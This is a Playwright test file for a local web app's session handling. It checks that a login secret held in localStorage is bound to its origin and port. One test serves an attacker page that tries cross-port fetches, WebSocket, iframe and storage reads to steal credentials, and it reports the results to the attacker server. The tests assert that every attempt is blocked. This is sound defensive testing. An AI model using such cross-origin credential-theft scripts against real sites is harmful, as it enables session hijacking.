// The session of a browser: bound to the origin including the port, valid until the server exits.
import { once } from 'node:events';
import { createServer, request, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterEach, expect, test } from 'vitest';
import type { Page } from 'playwright-core';
import { LONG, useServer } from './fixture';
import { en } from './labels';

const fixture = useServer();

let attacker: Server | undefined;
afterEach(() => attacker?.close());

const secretOf = (page: Page) => page.evaluate(() => localStorage.getItem('readyok.session'));
const loginPage = (page: Page) => page.getByText(en('login.link'));

/** The status of a request with arbitrary headers. */
async function statusOf(url: URL, path: string, headers: IncomingHttpHeaders): Promise<number | undefined> {
  const sent = request(new URL(path, url), { headers: { ...headers, host: url.host, origin: url.origin } });
  sent.end();
  const answered = new Promise<number | undefined>((found, failed) => {
    sent.on('response', (response) => {
      response.resume();
      found(response.statusCode);
    });
    sent.on('upgrade', (response, socket) => {
      socket.destroy();
      found(response.statusCode);
    });
    sent.on('error', failed);
  });
  return answered;
}

const UPGRADE = {
  connection: 'Upgrade',
  upgrade: 'websocket',
  'sec-websocket-version': '13',
  'sec-websocket-key': 'AAAAAAAAAAAAAAAAAAAAAA==',
};

/** Requests of a page of another server on this machine, reported to that server. */
async function attack(app: string) {
  const outcome: Record<string, string> = {};
  const attempt = async (name: string, act: () => Promise<unknown>) => {
    try {
      outcome[name] = String(await act());
    } catch {
      outcome[name] = 'blocked';
    }
  };
  // The page is same-site with the app: browsers send cookies to it.
  await attempt('own', async () => (await fetch('/collect', { credentials: 'include' })).status);
  await attempt('read', async () => (await fetch(`${app}api/choices`, { credentials: 'include' })).text());
  await attempt('image', () => {
    const image = new Image();
    image.src = `${app}api/engines.toml`;
    return image.decode();
  });
  await attempt(
    'socket',
    () =>
      new Promise((opened, failed) => {
        const socket = new WebSocket(`${app.replace('http', 'ws')}api/ws`, ['readyok']);
        socket.addEventListener('open', opened);
        socket.addEventListener('error', failed);
      }),
  );
  await attempt('frame', async () => {
    const frame = document.createElement('iframe');
    frame.src = app;
    document.body.append(frame);
    await new Promise((loaded) => frame.addEventListener('load', loaded));
    return frame.contentWindow?.localStorage.getItem('readyok.session');
  });
  await attempt('storage', async () => localStorage.getItem('readyok.session'));
  await fetch('/report', { method: 'POST', body: JSON.stringify(outcome) });
}

test('a server on another port receives no credential', async () => {
  const page = await fixture.page();
  const app = new URL('/', page.url());
  const secret = await secretOf(page);
  expect(secret).toMatch(/^[0-9a-f]{64}$/);

  const received: IncomingHttpHeaders[] = [];
  let report: ((text: string) => void) | undefined;
  const reported = new Promise<string>((found) => (report = found));
  attacker = createServer(async (incoming, response) => {
    received.push(incoming.headers);
    if (incoming.url === '/lure') {
      response.writeHead(302, { location: `http://127.0.0.1:${incoming.socket.localPort}/page` }).end();
    } else if (incoming.url === '/page') {
      const script = `(${attack.toString()})(${JSON.stringify(app.href)})`;
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end(`<!doctype html><body><script>${script}</script></body>`);
    } else {
      const chunks = await incoming.toArray();
      if (incoming.url === '/report') report?.(Buffer.concat(chunks).toString());
      response.writeHead(200).end();
    }
  }).listen(0, '127.0.0.1');
  await once(attacker, 'listening');

  // A link on a web page opens it.
  const victim = await page.context().newPage();
  const { port } = attacker.address() as AddressInfo;
  await victim.goto(`http://localhost:${port}/lure`);
  const outcome = JSON.parse(await reported) as Record<string, string>;
  expect(outcome).toEqual({
    own: '200',
    read: 'blocked',
    image: 'blocked',
    socket: 'blocked',
    frame: 'blocked',
    storage: 'null',
  });

  expect(received.length).toBeGreaterThanOrEqual(4);
  expect(JSON.stringify(received)).not.toContain(secret);
  expect(await page.context().cookies()).toEqual([]);
  // The received headers do not authenticate a request.
  for (const headers of received) {
    const { cookie, authorization } = headers;
    const known = { ...(cookie && { cookie }), ...(authorization && { authorization }) };
    expect(await statusOf(app, '/api/choices', known)).toBe(401);
    expect(await statusOf(app, '/api/ws', { ...known, ...UPGRADE })).toBe(401);
  }
  // Neither does the secret in a cookie, which browsers would send to other ports.
  expect(await statusOf(app, '/api/choices', { cookie: `readyok-${app.port}=${secret}` })).toBe(401);
  const protocols = { 'sec-websocket-protocol': `readyok, ${secret}` };
  expect(await statusOf(app, '/api/ws', { ...UPGRADE, ...protocols })).toBe(101);
});

test('logs in all tabs of a browser, and accepts a link only once', async () => {
  const link = await fixture.server.nextLink();
  const page = await fixture.newBrowser();
  await page.goto(link);
  await page.getByRole('navigation').waitFor();
  expect(page.url()).not.toContain('token');
  const secret = await secretOf(page);
  await page.reload();
  await page.getByRole('navigation').waitFor();

  const tab = await page.context().newPage();
  await tab.goto(new URL('/', page.url()).href);
  await tab.getByRole('navigation').waitFor();
  await tab.goto(link);
  await tab.getByRole('navigation').waitFor();
  expect(await loginPage(tab).count()).toBe(0);
  expect(await secretOf(tab)).toBe(secret);

  const newBrowser = await fixture.newBrowser();
  await newBrowser.goto(link);
  await loginPage(newBrowser).waitFor();
  expect(newBrowser.url()).not.toContain('token');
  expect(await secretOf(newBrowser)).toBeNull();
  // A new link logs it in, in the same tab.
  await newBrowser.goto(await fixture.server.nextLink());
  await newBrowser.getByRole('navigation').waitFor();
});

// Another process may bind the port in between.
test('requires a new link after a restart, which logs in all tabs', { retry: 3 }, async () => {
  const page = await fixture.page();
  const before = await secretOf(page);
  const tab = await page.context().newPage();
  await tab.goto(new URL('/', page.url()).href);
  await tab.getByRole('navigation').waitFor();
  await fixture.server.restart();
  await loginPage(page).waitFor();
  await tab.reload();
  await loginPage(tab).waitFor();
  await page.goto(await fixture.server.nextLink());
  await page.getByRole('navigation').waitFor();
  await expect.poll(() => loginPage(tab).count(), LONG).toBe(0);
  await tab.getByRole('navigation').waitFor();
  expect(await secretOf(page)).not.toBe(before);
});

test('a browser without storage is logged in until a reload', async () => {
  const page = await fixture.newBrowser();
  await page.addInitScript(() => {
    const fail = () => {
      throw new DOMException('denied', 'SecurityError');
    };
    Object.defineProperty(window, 'localStorage', { get: fail });
  });
  await page.goto(await fixture.server.nextLink());
  await page.getByRole('navigation').waitFor();
  await page.reload();
  await loginPage(page).waitFor();
});
